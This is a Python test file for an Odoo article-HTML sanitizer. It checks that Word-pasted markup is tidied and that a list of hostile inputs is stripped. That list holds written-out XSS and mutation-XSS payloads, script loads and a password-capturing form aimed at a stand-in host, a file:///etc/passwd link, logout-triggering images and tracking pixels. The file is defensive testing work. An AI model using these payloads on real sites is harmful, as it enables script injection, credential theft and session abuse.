"""What is pasted into an article: Word's own HTML, and pages that mean harm."""

from lxml import html

from odoo.tests import BaseCase, tagged

from ..tools.article_html import DATA_PICTURE_SIZE, clean

WORD = """<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word"><head>
<meta name=Generator content="Microsoft Word 15"><link rel=File-List href="file:///C:/clip_filelist.xml">
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->
<style><!-- @font-face {font-family:SimSun;} p.MsoNormal {margin:0cm; mso-pagination:none;} --></style></head>
<body lang=ZH-CN style='tab-interval:21.0pt'><!--StartFragment-->
<h1 style='mso-list:l0 level1 lfo1'>月度计划<span lang=EN-US><o:p></o:p></span></h1>
<p class=MsoNormal align=left style='margin-left:21pt;text-align:left;mso-pagination:widow-orphan;position:relative'>
<b style='mso-bidi-font-weight:normal'><span lang=EN-US style='font-family:"Times New Roman";color:red;mso-fareast-font-family:SimSun'>
By the 25th</span></b><span style='font-family:SimSun'>每月</span><o:p>&nbsp;</o:p></p>
<p class=MsoListParagraph><![if !supportLists]><span style='mso-list:Ignore'>1.<span style='font:7pt "Times New Roman"'>&nbsp;
</span></span><![endif]>First</p>
<table class=MsoTableGrid border=1 cellspacing=0 style='border-collapse:collapse;mso-yfti-tbllook:1184'><tr style='mso-yfti-irow:0'>
<td width=208 colspan=2 valign=top style='width:155.85pt;border:solid windowtext 1.0pt'><p class=MsoNormal>Form<o:p></o:p></p></td></tr></table>
<!--[if gte vml 1]><v:shape id="x" type="#_x0000_t75"><v:imagedata src="file:///C:/clip.png"/></v:shape><![endif]-->
<img width=10 height=10 src="file:///C:/Users/x/clip_image001.png" v:shapes="x"><!--EndFragment--></body></html>"""

HOSTILE = {
    "script": "<script>alert(1)</script>", "script in capitals": "<SCRIPT SRC=//e.com/x.js></SCRIPT>",
    "unclosed script": "<script>alert(1)", "frame": '<iframe src="https://e.com"></iframe><frame src="//e.com">',
    "frame's own page": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="x.swf"><embed src="x.swf"></object><applet code="x"></applet>',
    "page in a link": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', "script in a link": '<a href="javascript:alert(1)">x</a>',
    "script in a link, hidden": '<a href=" jAvA\tscr\nipt&#58;alert(1)">x</a><a href="&#1;javascript:alert(1)">y</a>',
    "other schemes": '<a href="vbscript:x">a</a><a href="file:///etc/passwd">b</a><a href="blob:x">c</a>',
    "picture that is a page": '<img src="data:text/html,<script>alert(1)</script>">',
    "drawing with a script": '<img src="data:image/svg+xml;base64,PHN2Zz4="><svg onload="alert(1)"><script>1</script></svg>',
    "handlers": '<p onclick="x()" ONMOUSEOVER="y()">x</p><img src=x onerror=alert(1)><details open ontoggle=alert(1)>',
    "over the page": '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999">x</div>',
    "over the page by classes": '<div class="position-fixed top-0 vw-100 vh-100 z-3 modal o_dialog">x</div>',
    "style of the page": "<style>body{display:none}</style><link rel=stylesheet href=//e.com/x.css>",
    "address in a style": '<p style="background:url(//e.com/x.png);color:expression(alert(1));color:url(x)">x</p>',
    "refresh": '<meta http-equiv="refresh" content="0;url=//e.com"><base href="//e.com/">',
    "form": '<form action="//e.com"><input name="password" autofocus><button formaction="javascript:x">Go</button></form>',
    "acts by being shown": '<img src="/web/session/logout"><img src="/odoo/action-1"><video src="/web/session/logout"></video>',
    "counts readers": '<img src="https://e.com/pixel.gif"><img src="//e.com/pixel.gif" srcset="//e.com/x 2x">',
    "mutates": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "mutates once more": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><xmp><img src=x onerror=x></xmp>',
    "template": '<template><script>alert(1)</script></template><t t-out="1">x</t><p t-att-onclick="x" data-bs-toggle="modal">x</p>',
    "unknown embed": '<div data-embedded="file" data-embedded-props="{}">x</div>',
    "forged embed": '<div data-embedded="opsStandard" data-embedded-props=\'{"code": "<img src=x onerror=alert(1)>"}\'>x</div>',
    "editable": '<p contenteditable="true" id="wrap" name="x" data-oe-model="res.users" data-oe-id="1">x</p>',
}
TAGS = {"script", "style", "iframe", "frame", "object", "embed", "applet", "svg", "math", "meta", "link", "base", "form", "input",
        "button", "video", "template", "xmp", "noscript", "details", "t", "o:p", "title"}


@tagged("post_install", "-at_install")
class TestArticleHtml(BaseCase):
    def assertHarmless(self, text):
        for node in html.fragment_fromstring(text, create_parent="div").iter():
            self.assertIsInstance(node.tag, str, text)
            self.assertNotIn(node.tag, TAGS, text)
            for name, value in node.attrib.items():
                self.assertFalse(name.startswith(("on", "t-", "v:")) or name in ("id", "name", "srcset", "contenteditable"), text)
                if name in ("href", "src"):
                    self.assertRegex(value, r"^(https?:|mailto:|tel:|#|/)", text)
            self.assertNotRegex(node.get("style", ""), "position|z-index|url|expression|mso-")
            self.assertNotRegex(node.get("class", ""), "fixed|Mso|modal|vh-|z-3")
            if node.tag == "img":
                self.assertRegex(node.get("src"), r"^/web/image/\d+|^/\w+/static/")

    def test_word(self):
        text = clean(WORD)
        self.assertHarmless(text)
        self.assertNotIn("mso", text.lower())
        for kept in ("<h1>月度计划", '<b><span style="color: red">', "By the 25th", "每月", '<td colspan="2" style="width: 155.85pt">', "First"):
            self.assertIn(kept, text)
        self.assertEqual(clean(text), text)

    def test_hostile_pages(self):
        for what, text in HOSTILE.items():
            with self.subTest(what=what):
                cleaned = clean(f"<p>Before</p>{text}<p>After</p>")
                self.assertHarmless(cleaned)
                self.assertIn("<p>Before</p>", cleaned)
                self.assertEqual(clean(cleaned), cleaned, "cleaning twice is cleaning once")

    def test_picture_from_elsewhere_becomes_a_link(self):
        """It could be exchanged after the text was published."""
        self.assertEqual(
            clean('<img src="https://e.com/plan.png" alt="Plan">'),
            '<a href="https://e.com/plan.png" target="_blank" rel="noopener noreferrer">Plan</a>',
        )

    def test_what_the_editor_makes_stays(self):
        for text in (
            '<p style="text-align: center"><b>a</b> <i>b</i> <u>c</u> <s>d</s> <code>e</code></p>',
            '<ul class="o_checklist"><li class="o_checked">done</li><li>open</li></ul>', '<ol start="3"><li>x</li></ol>',
            '<table class="table table-bordered o_table"><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
            '<p><a href="#steps">Steps</a> <a href="/odoo/my-work">My work</a> <a href="mailto:a@b.c">a</a></p>',
            '<p><img src="/web/image/12-abc/plan.png?access_token=1" alt="Plan" class="img-fluid" style="width: 50%"></p>',
            '<div class="alert alert-info">Mind this</div>', '<p><span style="color: #ff0000">x</span></p>',
            '<pre>a\n  b</pre><blockquote>q</blockquote><hr><h3>中文</h3>',
        ):
            self.assertEqual(clean(text), text)

    def test_a_file_stays_as_a_link(self):
        box = (
            '<p><span class="o_file_box" contenteditable="false" data-attachment-id="12"><span class="alert alert-info">'
            '<a class="o_link_readonly" contenteditable="true" href="/web/content/12?unique=ab&amp;download=true">form.xlsx</a>'
            "</span></span></p>"
        )
        self.assertIn('<a href="/web/content/12?unique=ab&amp;download=true">form.xlsx</a>', clean(box))
        self.assertNotIn("figure", clean('<figure><img src="https://e.com/a.png"><figcaption>A</figcaption></figure>'))

    def test_live_standards_stay_and_nothing_else_is_embedded(self):
        text = '<div data-embedded="opsStandard" data-embedded-props=\'{"code": "M6"}\'></div>'
        self.assertEqual(clean(text), text)
        forged = '<div data-embedded="opsStandard" onclick="x" class="x" data-embedded-props=\'{"code": "M6", "x": 1}\'><b>old</b></div>'
        self.assertEqual(clean(forged), text)

    def test_pictures_in_the_text_are_small(self):
        small = '<p><img src="data:image/png;base64,iVBORw0KGgo="></p>'
        self.assertEqual(clean(small), small)
        self.assertEqual(clean(f'<img src="data:image/png;base64,{"A" * DATA_PICTURE_SIZE}">'), "")

    def test_nonsense(self):
        for text in (None, False, "", " \n ", "\x00", "<", "<<<>>>", "&", "</div></body>", "<!---->", "\ud800", 7, "<p>" * 5000):
            self.assertIsInstance(clean(text), str)
        self.assertEqual(clean("a < b & c"), "a &lt; b &amp; c")
